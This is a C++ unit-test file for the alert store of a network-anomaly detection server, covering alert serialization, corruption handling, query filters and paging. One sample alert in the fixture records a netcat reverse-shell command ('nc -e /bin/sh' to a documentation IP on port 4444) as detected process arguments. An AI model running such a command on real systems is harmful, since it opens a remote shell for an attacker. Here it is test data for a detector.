#include "server/store/alert_store.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <random>
#include <set>

namespace ulna::server {
namespace {

constexpr int64_t kHour = 3'600'000'000'000;
constexpr int64_t kT0 = 1'704'067'200'000'000'000;  // 2024-01-01T00:00:00Z

class TempDir {
 public:
  TempDir() {
    std::string pattern = "/tmp/ulna_alert_store_test_XXXXXX";
    path_ = mkdtemp(pattern.data());
  }
  ~TempDir() { std::filesystem::remove_all(path_); }
  std::string Sub(const std::string& name) const { return path_ + "/" + name; }

 private:
  std::string path_;
};

// Every field set to a distinct, non-default value (negative and large numbers included).
Alert FullAlert() {
  Alert a;
  a.id = "0123456789abcdef";
  a.rule_name = "Unusual Linux Network Activity";
  a.severity = "low";
  a.risk_score = 4'000'000'000u;
  a.created_ns = kT0 + 123;
  AnomalyRecord& r = a.record;
  r.bucket_start_ns = kT0 - 15 * 60'000'000'000;
  r.mode = "ulna";
  r.host = {"host-id-1", "web-1"};
  r.process_name = "nc";
  r.process_executable = "/usr/bin/nc.openbsd";
  r.probability = 1.25e-7;
  r.score = 87.5;
  r.reasons = {"never seen on this host", "rare across the fleet", ""};
  r.other_hosts = 3;
  AlertContext& c = r.context;
  c.args = {"nc", "-e", "/bin/sh", "203.0.113.9", "4444"};
  c.working_directory = "/tmp";
  c.parent_name = "bash";
  c.parent_executable = "/bin/bash";
  c.user_names = {"www-data", "root"};
  c.destination_ips = {"203.0.113.9", "2001:db8::7"};
  c.destination_ports = {4444, 65535, 0};
  c.destination_classes = {"external"};
  c.directions = {"egress", "ingress"};
  c.transports = {"tcp"};
  c.event_count = 17;
  c.capture_drops = true;
  c.host_history = {.first_seen_ns = -5,
                    .last_seen_ns = kT0 - kHour,
                    .buckets_seen = 2,
                    .hosts_seen = 0,
                    .recent_days = {kT0 - 2 * 24 * kHour, kT0 - 24 * kHour}};
  c.fleet_history = {.first_seen_ns = kT0 - 90 * 24 * kHour,
                     .last_seen_ns = kT0 - 2 * kHour,
                     .buckets_seen = 99,
                     .hosts_seen = 12,
                     .recent_days = {kT0}};
  return a;
}

void ExpectHistoryEq(const ProcessHistory& a, const ProcessHistory& b) {
  EXPECT_EQ(a.first_seen_ns, b.first_seen_ns);
  EXPECT_EQ(a.last_seen_ns, b.last_seen_ns);
  EXPECT_EQ(a.buckets_seen, b.buckets_seen);
  EXPECT_EQ(a.hosts_seen, b.hosts_seen);
  EXPECT_EQ(a.recent_days, b.recent_days);
}

void ExpectAlertEq(const Alert& a, const Alert& b) {
  EXPECT_EQ(a.id, b.id);
  EXPECT_EQ(a.rule_name, b.rule_name);
  EXPECT_EQ(a.severity, b.severity);
  EXPECT_EQ(a.risk_score, b.risk_score);
  EXPECT_EQ(a.created_ns, b.created_ns);
  const AnomalyRecord &r = a.record, &s = b.record;
  EXPECT_EQ(r.bucket_start_ns, s.bucket_start_ns);
  EXPECT_EQ(r.mode, s.mode);
  EXPECT_EQ(r.host, s.host);
  EXPECT_EQ(r.process_name, s.process_name);
  EXPECT_EQ(r.process_executable, s.process_executable);
  EXPECT_EQ(r.probability, s.probability);
  EXPECT_EQ(r.score, s.score);
  EXPECT_EQ(r.reasons, s.reasons);
  EXPECT_EQ(r.other_hosts, s.other_hosts);
  const AlertContext &c = r.context, &d = s.context;
  EXPECT_EQ(c.args, d.args);
  EXPECT_EQ(c.working_directory, d.working_directory);
  EXPECT_EQ(c.parent_name, d.parent_name);
  EXPECT_EQ(c.parent_executable, d.parent_executable);
  EXPECT_EQ(c.user_names, d.user_names);
  EXPECT_EQ(c.destination_ips, d.destination_ips);
  EXPECT_EQ(c.destination_ports, d.destination_ports);
  EXPECT_EQ(c.destination_classes, d.destination_classes);
  EXPECT_EQ(c.directions, d.directions);
  EXPECT_EQ(c.transports, d.transports);
  EXPECT_EQ(c.event_count, d.event_count);
  EXPECT_EQ(c.capture_drops, d.capture_drops);
  ExpectHistoryEq(c.host_history, d.host_history);
  ExpectHistoryEq(c.fleet_history, d.fleet_history);
}

// The id is the first 128 bits of SHA-256 over the NUL-separated fields, in lower-case hex
// (`printf 'rule\0host\0process\0bucket' | sha256sum`): ids already stored must stay valid.
TEST(AlertIdTest, IsTheHexOfASha256Prefix) {
  EXPECT_EQ(AlertId("Unusual Linux Network Activity", "web-1-id", "evilcat", 1790812800000000000),
            "326da9e8b8d3831d56727559a4c169ec");
  EXPECT_NE(AlertId("r", "ab", "c", 1), AlertId("r", "a", "bc", 1));
}

TEST(AlertCodecTest, RoundTripsEveryField) {
  const Alert original = FullAlert();
  Result<Alert> decoded = DecodeAlert(EncodeAlert(original));
  ASSERT_TRUE(decoded.ok()) << decoded.status().ToString();
  ExpectAlertEq(*decoded, original);

  const Alert empty;
  Result<Alert> decoded_empty = DecodeAlert(EncodeAlert(empty));
  ASSERT_TRUE(decoded_empty.ok());
  ExpectAlertEq(*decoded_empty, empty);
}

TEST(AlertCodecTest, EveryTruncationFailsCleanly) {
  const std::string bytes = EncodeAlert(FullAlert());
  ASSERT_EQ(bytes[0], '\x01');  // the format version leads
  for (size_t n = 0; n < bytes.size(); ++n) {
    Result<Alert> decoded = DecodeAlert(std::string_view(bytes).substr(0, n));
    ASSERT_FALSE(decoded.ok()) << "prefix of " << n << " bytes decoded";
    EXPECT_EQ(decoded.status().code(), Status::Code::kInvalidArgument);
  }
  EXPECT_FALSE(DecodeAlert(bytes + '\0').ok());  // trailing bytes
}

TEST(AlertCodecTest, RejectsUnknownVersionAndOutOfRangeValues) {
  std::string bytes = EncodeAlert(FullAlert());
  bytes[0] = 2;
  Result<Alert> decoded = DecodeAlert(bytes);
  ASSERT_FALSE(decoded.ok());
  EXPECT_NE(decoded.status().message().find("version 2"), std::string::npos);

  // A risk score of 2^32 does not fit its uint32: patch UINT32_MAX's varint (same length).
  Alert max_risk;
  max_risk.risk_score = UINT32_MAX;
  std::string big = EncodeAlert(max_risk);
  ASSERT_TRUE(DecodeAlert(big).ok());
  ASSERT_EQ(big.substr(4, 5), "\xff\xff\xff\xff\x0f");  // after version and 3 empty strings
  big.replace(4, 5, "\x80\x80\x80\x80\x10");
  EXPECT_FALSE(DecodeAlert(big).ok());
  // A list count of 2^40 must fail without trying to allocate it.
  Alert a;
  std::string huge = EncodeAlert(a);
  // reasons count sits after 3 strings, 2 varints, bucket, 5 strings and 2 doubles.
  const size_t reasons_at = 1 + 3 + 1 + 1 + 1 + 5 + 16;
  ASSERT_EQ(huge[reasons_at], '\0');
  huge.replace(reasons_at, 1, "\x80\x80\x80\x80\x80\x20");
  EXPECT_FALSE(DecodeAlert(huge).ok());
}

TEST(AlertCodecTest, RandomCorruptionNeverCrashes) {
  const std::string bytes = EncodeAlert(FullAlert());
  std::mt19937 random(1);
  int failures = 0;
  for (int i = 0; i < 2000; ++i) {
    std::string corrupt = bytes;
    for (int flips = 0; flips < 3; ++flips) {
      corrupt[random() % corrupt.size()] = static_cast<char>(random());
    }
    if (!DecodeAlert(corrupt).ok()) ++failures;
  }
  EXPECT_GT(failures, 0);  // most corruptions are detected; none may crash (ASan/UBSan builds)
}

// Designated initializers would trip -Wmissing-field-initializers on the string members.
template <typename Fill>
AlertQuery MakeQuery(Fill fill) {
  AlertQuery query;
  fill(query);
  return query;
}

class AlertStoreTest : public ::testing::Test {
 protected:
  void SetUp() override {
    Result<std::unique_ptr<Store>> store = Store::Open({.path = dir_.Sub("db")});
    ASSERT_TRUE(store.ok()) << store.status().ToString();
    store_ = std::move(store).value();
    alerts_ = std::make_unique<AlertStore>(store_.get());
  }

  Alert Make(int bucket, const std::string& host, const std::string& process, double score) {
    Alert a;
    a.rule_name = "Unusual Linux Network Activity";
    a.record.bucket_start_ns = kT0 + bucket * kHour;
    a.record.host = {"id-" + host, host};
    a.record.process_name = process;
    a.record.score = score;
    a.id = AlertId(a.rule_name, a.record.host.id, process, a.record.bucket_start_ns);
    return a;
  }

  void Add(const std::vector<Alert>& alerts) {
    WriteGroup group;
    for (const Alert& a : alerts) alerts_->Add(a, &group);
    ASSERT_TRUE(store_->Write(std::move(group), /*sync=*/true).ok());
  }

  // All ids the query returns over every page, checking page sizes along the way.
  std::vector<std::string> AllPages(AlertQuery query, int* pages) {
    std::vector<std::string> ids;
    *pages = 0;
    for (;;) {
      Result<AlertPage> page = alerts_->Query(query);
      EXPECT_TRUE(page.ok()) << page.status().ToString();
      if (!page.ok()) break;
      ++*pages;
      EXPECT_LE(page->alerts.size(), query.limit);
      for (const Alert& a : page->alerts) ids.push_back(a.id);
      if (page->next_key.empty()) break;
      EXPECT_EQ(page->alerts.size(), query.limit);  // a short page is the last one
      query.after_key = page->next_key;
      if (*pages > 100) break;
    }
    return ids;
  }

  TempDir dir_;
  std::unique_ptr<Store> store_;
  std::unique_ptr<AlertStore> alerts_;
};

TEST_F(AlertStoreTest, AddExistsAndStoredRoundTrip) {
  Alert full = FullAlert();
  EXPECT_FALSE(alerts_->Exists(full.id));
  Add({full});
  EXPECT_TRUE(alerts_->Exists(full.id));
  EXPECT_FALSE(alerts_->Exists(full.id + "x"));

  Result<AlertPage> page = alerts_->Query({});
  ASSERT_TRUE(page.ok());
  ASSERT_EQ(page->alerts.size(), 1u);
  ExpectAlertEq(page->alerts[0], full);
  EXPECT_TRUE(page->next_key.empty());

  // Adding the same alert again (overlapping rule runs) keeps one copy.
  Add({full});
  EXPECT_EQ(alerts_->Query({})->alerts.size(), 1u);
}

TEST_F(AlertStoreTest, QueryFiltersByTimeHostProcessAndScore) {
  Add({Make(0, "web-1", "nc", 90), Make(1, "web-1", "curl", 40), Make(1, "db-1", "nc", 70),
       Make(2, "db-1", "socat", 99), Make(3, "web-1", "nc", 10)});
  auto ids = [&](const AlertQuery& q) {
    std::vector<std::string> out;
    Result<AlertPage> page = alerts_->Query(q);
    EXPECT_TRUE(page.ok());
    for (const Alert& a : page->alerts) {
      out.push_back(a.record.host.name + "/" + a.record.process_name + "@" +
                    std::to_string((a.record.bucket_start_ns - kT0) / kHour));
    }
    // Within a bucket the order is by alert id (a hash): compare as sorted lists.
    std::sort(out.begin(), out.end());
    return out;
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(ids({}).size(), 5u);
  EXPECT_EQ(ids(MakeQuery([](AlertQuery& q) {
              q.start_ns = kT0 + kHour;
              q.end_ns = kT0 + 3 * kHour;
            })),
            (V{"db-1/nc@1", "db-1/socat@2", "web-1/curl@1"}));
  EXPECT_EQ(ids(MakeQuery([](AlertQuery& q) { q.start_ns = kT0 + 3 * kHour; })), (V{"web-1/nc@3"}));
  EXPECT_EQ(ids(MakeQuery([](AlertQuery& q) { q.end_ns = kT0 + kHour; })), (V{"web-1/nc@0"}));
  EXPECT_EQ(ids(MakeQuery([](AlertQuery& q) {
              q.host_name = "web-1";
              q.process_name = "nc";
            })),
            (V{"web-1/nc@0", "web-1/nc@3"}));
  EXPECT_EQ(ids(MakeQuery([](AlertQuery& q) { q.min_score = 70; })),
            (V{"db-1/nc@1", "db-1/socat@2", "web-1/nc@0"}));
  EXPECT_TRUE(ids(MakeQuery([](AlertQuery& q) { q.host_name = "nobody"; })).empty());
  EXPECT_TRUE(ids(MakeQuery([](AlertQuery& q) {
                q.start_ns = kT0 + 5 * kHour;
                q.end_ns = kT0 + 4 * kHour;
              })).empty());
  EXPECT_EQ(alerts_->Query(MakeQuery([](AlertQuery& q) { q.limit = 0; })).status().code(),
            Status::Code::kInvalidArgument);
}

TEST_F(AlertStoreTest, PagingHasNoGapsOrDuplicates) {
  std::vector<Alert> all;
  std::set<std::string> expected, expected_web;
  for (int bucket = 0; bucket < 7; ++bucket) {
    for (const char* host : {"web-1", "db-1", "web-2"}) {
      Alert a = Make(bucket, host, "p" + std::to_string(bucket % 2), bucket * 10.0);
      expected.insert(a.id);
      if (std::string(host) == "web-1") expected_web.insert(a.id);
      all.push_back(a);
    }
  }
  Add(all);  // 21 alerts

  int pages = 0;
  std::vector<std::string> ids = AllPages(MakeQuery([](AlertQuery& q) { q.limit = 7; }), &pages);
  EXPECT_EQ(pages, 3);  // exactly full pages: the last one says there is nothing more
  EXPECT_EQ(ids.size(), 21u);
  EXPECT_EQ(std::set<std::string>(ids.begin(), ids.end()), expected);

  ids = AllPages(MakeQuery([](AlertQuery& q) { q.limit = 4; }), &pages);
  EXPECT_EQ(pages, 6);
  EXPECT_EQ(std::set<std::string>(ids.begin(), ids.end()).size(), 21u);
  EXPECT_EQ(ids.size(), 21u);

  // Filtered paging: 7 web-1 alerts, 2 per page.
  ids = AllPages(MakeQuery([](AlertQuery& q) {
                   q.host_name = "web-1";
                   q.limit = 2;
                 }),
                 &pages);
  EXPECT_EQ(pages, 4);
  EXPECT_EQ(std::set<std::string>(ids.begin(), ids.end()), expected_web);
  EXPECT_EQ(ids.size(), 7u);

  // Paging inside a time window stays inside it.
  ids = AllPages(MakeQuery([](AlertQuery& q) {
                   q.start_ns = kT0 + 2 * kHour;
                   q.end_ns = kT0 + 4 * kHour;
                   q.limit = 4;
                 }),
                 &pages);
  EXPECT_EQ(pages, 2);
  EXPECT_EQ(ids.size(), 6u);
}

TEST_F(AlertStoreTest, CorruptStoredAlertIsReported) {
  Add({Make(0, "web-1", "nc", 90)});
  std::string key;
  AppendBigEndian64(&key, static_cast<uint64_t>(kT0 + kHour));
  key += "bad";
  WriteGroup group;
  group.Put(Family::kAlerts, key,
            "\x01\x05"
            "ab");  // a 5-byte id with 2 bytes present
  ASSERT_TRUE(store_->Write(std::move(group), true).ok());
  Result<AlertPage> page = alerts_->Query({});
  ASSERT_FALSE(page.ok());
  EXPECT_EQ(page.status().code(), Status::Code::kInternal);
  EXPECT_NE(page.status().message().find("truncated"), std::string::npos);
}

}  // namespace
}  // namespace ulna::server
